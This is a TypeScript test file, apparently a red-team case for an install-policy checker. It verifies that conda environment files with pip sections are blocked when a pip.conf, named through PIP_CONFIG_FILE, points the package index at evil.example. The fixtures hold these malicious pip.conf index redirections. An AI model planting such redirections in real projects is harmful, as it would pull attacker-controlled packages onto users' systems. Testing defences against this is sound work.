/**
 * Red team 46b R46b-6: a conda environment file's pip list runs `pip install`, which reads the
 * pip.conf the line's PIP_CONFIG_FILE names (its `global` and `install` sections, whatever
 * conda's own command is); the kernel refuses (tests/deps/test_redteam46b_conda_pip_conf.py),
 * and installers.ts addImplicitSources reads pipConfigSettings for request.condaPip too.
 */
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import type { IPolicyDocument } from '../contracts';
import { decide } from '../policy/policy';
import { shellInstalls } from './commands';
import { decideInstall } from './decide';
import { COMMAND_LINE } from './request';
import { shippedData } from './shipped';

interface Vector {
  name: string;
  policy: Record<string, unknown>;
  command: string;
  files?: Record<string, string>;
  env?: Record<string, string>;
  expect: { rules: string[]; runs: boolean };
}

// the same vectors as tests/deps/redteam46b_conda_pip_conf.json (kernel control)
const vectors: Vector[] = [
  {
    name: 'R46b-6 conda env create pip section, PIP_CONFIG_FILE on the line',
    policy: {},
    files: {
      'env.yml': 'name: x\ndependencies:\n  - pip\n  - pip:\n    - black\n',
      'pip.conf': '[global]\nindex-url = https://evil.example/simple\n'
    },
    command: 'PIP_CONFIG_FILE=pip.conf conda env create -f env.yml',
    expect: {
      rules: ['install-index-not-allowed'],
      runs: false
    }
  },
  {
    name: 'R46b-6  conda env create pip section, PIP_CONFIG_FILE in env',
    policy: {},
    env: {
      PIP_CONFIG_FILE: 'pip.conf'
    },
    files: {
      'env.yml': 'name: x\ndependencies:\n  - pip\n  - pip:\n    - black\n',
      'pip.conf': '[install]\nextra-index-url = https://evil.example/simple\n'
    },
    command: 'conda env create -f env.yml',
    expect: {
      rules: ['install-index-not-allowed'],
      runs: false
    }
  }
];

function outcome(vector: Vector, workdir: string) {
  for (const [name, text] of Object.entries(vector.files ?? {})) {
    fs.mkdirSync(path.dirname(path.join(workdir, name)), { recursive: true });
    fs.writeFileSync(path.join(workdir, name), text);
  }
  const env = {
    HOME: path.join(workdir, 'home'),
    PIP_CONFIG_FILE: os.devNull,
    XDG_CONFIG_DIRS: path.join(workdir, 'home'),
    ...(vector.env ?? {})
  };
  const context = {
    cwd: workdir,
    place: COMMAND_LINE,
    env,
    readFile: (p: string) => fs.readFileSync(p, 'utf8'),
    label: (p: string) => path.basename(p)
  };
  const reply = {
    effective: {
      schema_version: 1,
      revision: 1,
      ...vector.policy
    } as IPolicyDocument,
    provenance: {},
    source: 'test',
    revision: 1,
    errors: [],
    sources: []
  };
  const rules = new Set<string>();
  let runs = true;
  for (const found of shellInstalls(vector.command, 0, env, context)) {
    for (const finding of decideInstall(
      found.request,
      vector.policy,
      shippedData(),
      COMMAND_LINE
    )) {
      const { action } = decide(reply, finding.ruleId);
      if (action === 'off') {
        continue;
      }
      rules.add(finding.ruleId);
      runs = runs && action !== 'block' && action !== 'confirm';
    }
  }
  return { rules: [...rules].sort(), runs };
}

describe('R46b-6: a conda environment file pip list reads pip.conf on the static side too', () => {
  for (const vector of vectors) {
    it(vector.name, () => {
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'rt46b-'));
      expect(outcome(vector, dir)).toEqual(vector.expect);
    });
  }
});
